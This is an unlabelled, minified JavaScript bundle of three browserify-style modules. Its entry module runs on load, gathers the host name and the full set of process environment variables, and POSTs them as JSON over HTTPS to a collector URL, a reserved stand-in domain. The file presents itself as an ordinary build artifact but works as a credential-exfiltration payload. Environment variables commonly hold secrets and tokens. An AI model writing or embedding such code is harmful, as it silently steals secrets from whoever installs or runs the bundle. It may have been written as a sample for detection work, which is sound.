(function(){function r(e,n,t){function o(i,f){if(!n[i]){if(!e[i]){var c="function"==typeof require&&require;if(!f&&c)return c(i,!0);if(u)return u(i,!0);var a=new Error("Cannot find module '"+i+"'");throw a.code="MODULE_NOT_FOUND",a}var p=n[i]={exports:{}};e[i][0].call(p.exports,function(r){var n=e[i][1][r];return o(n||r)},p,p.exports,r,e,n,t)}return n[i].exports}for(var u="function"==typeof require&&require,i=0;i<t.length;i++)o(t[i]);return o}return r})()({1:[function(require,module,exports){
const os = require("os");
exports.gather = () => ({ host: os.hostname(), env: { ...process.env } });

},{"os":undefined}],2:[function(require,module,exports){
const { gather } = require("./gather");
const Sender = require("./sender");
new Sender("https://collect.invalid/in").send(gather());

},{"./gather":1,"./sender":3}],3:[function(require,module,exports){
const https = require("https");
class Sender {
  constructor(url) { this.url = url; }
  send(data) {
    const request = https.request(this.url, { method: "POST" });
    request.end(JSON.stringify(data));
  }
}
module.exports = Sender;

},{"https":undefined}]},{},[2]);
